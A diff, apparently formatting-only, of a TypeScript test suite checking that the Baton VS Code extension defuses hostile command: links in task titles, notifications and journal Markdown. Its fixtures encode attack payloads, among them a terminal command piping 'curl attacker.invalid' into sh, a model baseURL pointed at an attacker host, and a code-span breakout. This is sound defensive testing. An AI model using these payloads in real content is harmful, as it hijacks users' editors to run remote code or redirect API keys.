@@ -18,7 +18,8 @@ import { HostToWebview } from '../../src/protocol';
 import { attempted } from '../support/attackLedger';
 import { MemoryStateStore, steppingClock } from '../support/checkpointFixtures';
 
-const COMMAND_LINK = '[run](command:baton.selectModelForRole?%5B%22maker%22%2C%7B%22provider%22%3A%22openai%22%2C%22model%22%3A%22gpt-4o%22%2C%22baseURL%22%3A%22https%3A%2F%2Fattacker.invalid%2Fv1%22%7D%5D)';
+const COMMAND_LINK =
+  '[run](command:baton.selectModelForRole?%5B%22maker%22%2C%7B%22provider%22%3A%22openai%22%2C%22model%22%3A%22gpt-4o%22%2C%22baseURL%22%3A%22https%3A%2F%2Fattacker.invalid%2Fv1%22%7D%5D)';
 const BARE_COMMAND = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20attacker.invalid%7Csh%5Cn%22%7D';
 const TITLE = `Fix the parser ${COMMAND_LINK} then ${BARE_COMMAND} <command:baton.setApiKey> [docs][ref]\n\n[ref]: command:baton.setApiKey`;
 
@@ -42,20 +43,61 @@ const isLive = (text: string): boolean => notificationLinks(text).length > 0 || 
 describe('hostile text: what Baton shows', () => {
   it('attack command-link: a planner node title with a command link, a bare command: URI and an autolink shows no live link in a notification or in Markdown', () => {
     // The attack is real: the raw title is a live command link in both renderers.
-    attempted('the raw title\'s command link is live in a notification', notificationLinks(TITLE).some((href) => href.startsWith('command:baton.selectModelForRole')));
-    attempted('the raw title\'s command link is live in Markdown', markdownHrefs(TITLE).some((href) => href.startsWith('command:baton.selectModelForRole')));
-    attempted('the raw title\'s autolink and reference link are live in Markdown', markdownHrefs(TITLE).filter((href) => href === 'command:baton.setApiKey').length === 2);
+    attempted(
+      "the raw title's command link is live in a notification",
+      notificationLinks(TITLE).some((href) => href.startsWith('command:baton.selectModelForRole')),
+    );
+    attempted(
+      "the raw title's command link is live in Markdown",
+      markdownHrefs(TITLE).some((href) => href.startsWith('command:baton.selectModelForRole')),
+    );
+    attempted(
+      "the raw title's autolink and reference link are live in Markdown",
+      markdownHrefs(TITLE).filter((href) => href === 'command:baton.setApiKey').length === 2,
+    );
 
     const shown = plainText(`Baton: "${TITLE}" is done (checkpoint saved).`);
     assert.deepEqual(notificationLinks(shown), []);
-    assert.deepEqual(markdownHrefs(shown).filter((href) => /^(command|vscode|file):/i.test(href)), []);
+    assert.deepEqual(
+      markdownHrefs(shown).filter((href) => /^(command|vscode|file):/i.test(href)),
+      [],
+    );
     assert.doesNotMatch(shown, /command:/, 'no command: URI is left whole');
     // Still readable: only invisible breaks were added.
     assert.equal(shown.replaceAll('\u200B', ''), `Baton: "${TITLE}" is done (checkpoint saved).`);
   });
 
   it('attack command-link: no mix of link syntax, schemes and text survives plainText as a live link (property)', () => {
-    const piece = fc.constantFrom('[', ']', '(', ')', '<', '>', ' ', '\n', 'x', 'command:', 'COMMAND:', 'vscode://', 'file:///etc', 'https://', 'http://a.b', 'baton.setApiKey', '?', '%5B', '"', "'", '\\', '`', '!', '$(', 'mailto:', 'ssh://h', 'x-y:z', '\u202E');
+    const piece = fc.constantFrom(
+      '[',
+      ']',
+      '(',
+      ')',
+      '<',
+      '>',
+      ' ',
+      '\n',
+      'x',
+      'command:',
+      'COMMAND:',
+      'vscode://',
+      'file:///etc',
+      'https://',
+      'http://a.b',
+      'baton.setApiKey',
+      '?',
+      '%5B',
+      '"',
+      "'",
+      '\\',
+      '`',
+      '!',
+      '$(',
+      'mailto:',
+      'ssh://h',
+      'x-y:z',
+      '\u202E',
+    );
     const part = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''));
     const text = fc.oneof(
       fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join('')),
@@ -96,8 +138,14 @@ describe('hostile text: what Baton shows', () => {
     const subject = { taskId: 'x`) [id](command:baton.setApiKey) (`', taskTitle: TITLE, nodeId: 'n1' };
     const events = [JournalEventSchema.parse({ v: 1, time: Date.UTC(2025, 0, 10), ...subject, kind: 'node', mode: 'delegate', source: 'plan' })];
     const given = events[0]!;
-    attempted('the raw task title renders live links', given.taskTitle === TITLE && markdownHrefs(`| ${given.taskTitle} |`).some((href) => href.startsWith('command:')));
-    attempted('the raw task id breaks out of its code span into a live link', markdownHrefs(`| (\`${given.taskId}\`) |`).some((href) => href.startsWith('command:')));
+    attempted(
+      'the raw task title renders live links',
+      given.taskTitle === TITLE && markdownHrefs(`| ${given.taskTitle} |`).some((href) => href.startsWith('command:')),
+    );
+    attempted(
+      'the raw task id breaks out of its code span into a live link',
+      markdownHrefs(`| (\`${given.taskId}\`) |`).some((href) => href.startsWith('command:')),
+    );
 
     const document = formatJournalMarkdown(summariseJournal(events));
     assert.match(document, /Fix the parser/, 'the task is in the document');
@@ -140,7 +188,10 @@ describe('hostile text: what Baton shows', () => {
 
     const tasks = toTasksView({ tree: loaded, treeError: null, selectedId: longId, history: [], checkpointError: null, roles: [] });
     assert.ok(HostToWebview.safeParse({ type: 'tasks', tasks }).success, 'the update passes the protocol check');
-    assert.deepEqual(tasks.nodes.map((n) => n.title), ['Root task', 'A fine sibling']);
+    assert.deepEqual(
+      tasks.nodes.map((n) => n.title),
+      ['Root task', 'A fine sibling'],
+    );
     assert.equal(tasks.selectedId, null);
     assert.equal(tasks.notes.length, 1);
     assert.match(tasks.notes[0]!, /^Task node "nxxx[^"]*…" and the 1 node below it are not shown: id: Too big: expected string to have <=200 characters\.$/);
